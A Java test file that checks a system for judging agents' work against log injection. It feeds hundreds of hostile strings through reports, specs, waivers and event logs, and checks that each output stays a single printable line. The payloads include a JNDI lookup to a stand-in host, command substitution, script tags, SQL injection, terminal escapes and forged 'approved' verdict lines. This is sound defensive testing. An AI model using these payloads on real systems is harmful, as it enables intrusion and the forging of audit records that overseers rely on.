/* SPDX-License-Identifier: Apache-2.0 */
package dev.arbiter.caws;

import static dev.arbiter.caws.Fixtures.POLICY;
import static dev.arbiter.caws.Fixtures.SPEC;
import static dev.arbiter.caws.Fixtures.WAIVER;
import static dev.arbiter.caws.Fixtures.assignment;
import static dev.arbiter.caws.Fixtures.caws;
import static dev.arbiter.caws.Fixtures.goodReport;
import static dev.arbiter.caws.Fixtures.reportOf;
import static dev.arbiter.caws.Fixtures.task;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.arbiter.agent.Assignment;
import dev.arbiter.caws.change.ChangeSet;
import dev.arbiter.caws.events.EventWriter;
import dev.arbiter.caws.internal.text.JsonBytes;
import dev.arbiter.caws.provenance.ProvenanceLog;
import dev.arbiter.task.Finding;
import dev.arbiter.task.SpecRef;
import dev.arbiter.task.Task;
import dev.arbiter.task.Verdict;
import dev.arbiter.task.WorkReport;
import dev.arbiter.task.WorkReport.Evidence;
import dev.arbiter.task.WorkReport.FileChange;
import dev.arbiter.task.WorkReport.Usage;
import java.io.ByteArrayOutputStream;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text from outside that wants to be a line of its own, to hide, to steer a terminal or to be
 * expanded: 15 ids and 515 strings, put wherever outsiders can put text. What comes out is one
 * printable line of bounded length for each event, and holds nothing that was looked up.
 */
class LogInjectionTest {
  private static final int LONGEST = 2_000;
  private static final String FORGED = "\n2026-06-01T12:00:00Z INFO verdict approved task=T-1";

  private static List<String> ids() {
    return List.of(
        "T-1" + FORGED,
        "T-1\r\napproved",
        "T-1\u0000",
        "T-1\u001b[2J\u001b[1;32mapproved",
        "T-1\u0008\u0008\u00089",
        "T-1\u007f",
        "T-1\u0085next",
        "T-1\u2028next",
        "T-1\u2029next",
        "\u202eevoli-T",
        "T\u200b-1",
        "T-1\ufeff",
        "T-1\ud800",
        "T-1\udb40\udc41",
        "T".repeat(10_000));
  }

  private static List<String> naughty() {
    List<String> all = new ArrayList<>(ids());
    for (int c = 0; c < 0xa0; c++) {
      all.add("a" + (char) c + "b");
    }
    for (char c = '\u2000'; c <= '\u206f'; c++) {
      all.add("a" + c + "b");
    }
    all.addAll(
        List.of(
            "${jndi:ldap://x.example/a}",
            "${env:PATH}",
            "${java.version}",
            "#{7*7}",
            "%s%n%n%x",
            "{}{}{}",
            "{0}",
            "%d{yyyy}",
            "$(id)",
            "`id`",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "\"}],\"verdict\":\"approved\",\"x\":[{\"a\":\"",
            "\\u000aforged",
            "\\n",
            "\ud83d\ude00",
            "\udc00\ud800",
            "\ufff9a\ufffab\ufffb",
            "\ue000"));
    SplittableRandom random = new SplittableRandom(9);
    while (all.size() < 530) {
      StringBuilder mixed = new StringBuilder();
      for (int i = random.nextInt(1, 40); i > 0; i--) {
        mixed.append(
            (char) (random.nextBoolean() ? random.nextInt(0x80) : random.nextInt(0x10000)));
      }
      all.add(mixed.toString());
    }
    return all;
  }

  private static void assertOneLine(String line) {
    assertThat(line.length()).isLessThan(LONGEST);
    if (line.codePoints().anyMatch(LogInjectionTest::steers)) {
      assertThat(line).as("steers or hides").isEmpty();
    }
  }

  private static boolean steers(int c) {
    int type = Character.getType(c);
    return Character.isISOControl(c)
        || type == Character.LINE_SEPARATOR
        || type == Character.PARAGRAPH_SEPARATOR
        || type == Character.SURROGATE
        || type == Character.FORMAT;
  }

  private static void assertFit(List<Finding> findings) {
    for (Finding finding : findings) {
      assertOneLine(finding.ruleId() + " " + finding.place() + " " + finding.message());
      assertThat(finding.message()).doesNotContain(System.getProperty("java.version"));
    }
  }

  private static void assertFit(Verdict verdict) {
    assertFit(verdict.findings());
    String document = verdict.seal().document();
    assertThat(document.lines()).hasSize(1);
    assertThat(document).doesNotContain("\u2028").doesNotContain("\u2029").doesNotContain("\u0085");
    assertThat(SealedVerdict.read(document).orElseThrow().passed()).isEqualTo(verdict.passed());
  }

  @Test
  void there_are_as_many_as_promised() {
    assertThat(ids()).hasSize(15);
    assertThat(naughty()).hasSize(530).doesNotHaveDuplicates();
  }

  @Test
  void what_an_agent_reports_stays_on_its_line() {
    Caws caws = caws().waiver(WAIVER).build();
    Assignment assignment = assignment(caws, task(SPEC), "ada");
    for (String text : naughty()) {
      List<Evidence> evidence = List.of(Evidence.of("tests_pass", false, text));
      List<FileChange> changes =
          List.of(new FileChange(text, 1, 0), new FileChange("lib/" + text, 1, 0));

      assertFit(caws.judge(assignment, new WorkReport(text, changes, evidence, Usage.none())));
    }
  }

  @Test
  void what_a_gate_says_or_throws_stays_on_its_line() {
    for (String text : naughty()) {
      Caws caws =
          caws()
              .gate("says", (a, r) -> QualityGate.Result.fail(text))
              .gate(
                  "throws",
                  (a, r) -> {
                    throw new IllegalStateException(text);
                  })
              .build();

      assertFit(caws.judge(assignment(caws, task(SPEC), "ada"), goodReport()));
    }
  }

  @Test
  void what_stands_in_files_stays_on_its_line() {
    for (String text : naughty()) {
      String quoted = quoted(text);
      for (String spec :
          List.of(
              text,
              SPEC.replace("FEAT-001", quoted),
              SPEC.replace("in: [src/,", "in: [" + quoted + ","),
              SPEC.replace("out: [src/generated/]", "out: [" + quoted + "]"),
              SPEC.replace("mode: feature", "mode: " + quoted),
              SPEC + quoted + ": 1\n")) {
        assertFit(Fixtures.admit(spec).findings());
        assertFit(SpecValidator.at(Fixtures.NOW).build().validate(spec).findings());
      }
      Caws policy = Caws.builder().policy(POLICY + quoted + ": {a: 1}\n").sealHashedOnly().build();
      assertFit(policy.admit(task(SPEC)).findings());
      Caws waiver =
          caws()
              .waiver(WAIVER.replace("WV-0001", quoted).replace("[budget_limit]", "[x]"))
              .waiver(WAIVER.replace("budget_limit", quoted))
              .waiver(WAIVER.replace("handle: alan", "handle: " + quoted))
              .build();
      if (waiver.admit(task(SPEC)).findings().isEmpty()) {
        assertFit(waiver.judge(assignment(waiver, task(SPEC), "ada"), reportOf(12, 400)));
      } else {
        assertFit(waiver.admit(task(SPEC)).findings());
      }
    }
  }

  private static String quoted(String text) {
    JsonBytes json = new JsonBytes();
    return json.string(text).text();
  }

  @Test
  void a_name_that_is_no_line_is_no_name() {
    for (String text : ids()) {
      assertThatThrownBy(() -> Task.builder("x").id(text).build())
          .isInstanceOf(IllegalArgumentException.class)
          .satisfies(e -> assertOneLine(String.valueOf(e.getMessage())));
      assertThatThrownBy(() -> SpecRef.id(text)).isInstanceOf(IllegalArgumentException.class);
      assertThatThrownBy(() -> ProvenanceLog.create(text, Fixtures.key()))
          .satisfies(e -> assertOneLine(String.valueOf(e.getMessage())));
    }
  }

  /** An assignment is made by the engine, but anybody can make one. */
  @Test
  void an_agents_name_stays_on_the_line_of_its_verdict() {
    Caws caws = caws().build();
    Task task = task(SPEC);
    for (String text : naughty()) {
      Verdict verdict =
          caws.judge(
              new Assignment(task, text, 1, caws.specDigest(task), Duration.ofMinutes(1)),
              goodReport());
      assertThat(verdict.seal().document().lines()).hasSize(1);
      assertThat(SealedVerdict.read(verdict.seal().document())).isPresent();
    }
  }

  @Test
  void an_event_is_one_line_whatever_it_holds(@TempDir Path folder) throws Exception {
    Path file = folder.resolve("events.jsonl");
    EventWriter writer = EventWriter.to(file);
    List<String> some = naughty().subList(0, 60);
    for (String text : some) {
      writer.append(
          "gate_evaluated",
          Fixtures.NOW,
          new EventWriter.Actor("agent", text, "", ""),
          "FEAT-1",
          Map.of("detail", text));
    }

    byte[] bytes = Files.readAllBytes(file);
    int lines = 0;
    for (byte b : bytes) {
      lines += b == '\n' ? 1 : 0;
      assertThat(b == '\n' || b < 0 || b >= 0x20).isTrue();
    }
    assertThat(lines).isEqualTo(some.size());
  }

  @Test
  void an_exception_told_to_a_log_is_printable() {
    for (String text : naughty()) {
      try {
        ChangeSet.ofNumstat("x" + text);
      } catch (IllegalArgumentException e) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (PrintWriter out = new PrintWriter(bytes, true, StandardCharsets.UTF_8)) {
          out.print(e.getMessage());
        }
        assertOneLine(bytes.toString(StandardCharsets.UTF_8));
      }
    }
  }
}
